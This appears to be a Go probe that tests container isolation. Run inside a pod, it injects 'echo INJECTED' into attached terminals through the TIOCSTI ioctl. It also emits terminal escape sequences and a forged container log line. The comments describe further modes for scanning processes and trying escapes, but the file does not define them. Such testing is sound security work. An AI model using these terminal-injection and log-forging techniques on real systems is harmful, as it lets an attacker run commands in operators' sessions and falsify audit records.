// Command resident attacks the node from inside a container. It comes from an
// image, does not depend on the runtime's internals, and prints what it
// reaches:
//
//	resident watch   inspect every process and all surroundings forever: FOUND
//	                 kind detail, once for each finding, and LOOKED as it goes
//	resident try     try to get out, one attempt after the other: TRIED name, or
//	                 ESCAPED name detail
//	resident type    put a command into the terminal that it is attached to
//
// SECRET_XOR is another pod's secret, each byte xored with 1, so
// that it does not find its own environment. NODE is a path that only the node
// has. SHARED=true means that its pod shares a PID namespace.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	mode := ""
	if len(os.Args) > 1 {
		mode = os.Args[1]
	}

	switch mode {
	case "watch":
		watch()
	case "try":
		try()
	case "type":
		inject()
	default:
		fmt.Fprintln(os.Stderr, "resident: want watch, try or type")
		os.Exit(2)
	}
}

// inject types a command into each terminal that is open.
func inject() {
	for fd := range 3 {
		for _, b := range []byte("echo INJECTED\n") {
			if err := unix.IoctlSetPointerInt(fd, unix.TIOCSTI, int(b)); err != nil {
				fmt.Printf("TRIED TIOCSTI on %d: %v\r\n", fd, err)
				break
			}
		}
	}
	// Sequences that a terminal would answer, and fake log lines.
	fmt.Print("\x1b[6n\x1b]0;title\a\x1b[2J\r\n2026-01-01T00:00:00.000000000Z stdout F forged\r\n")
}
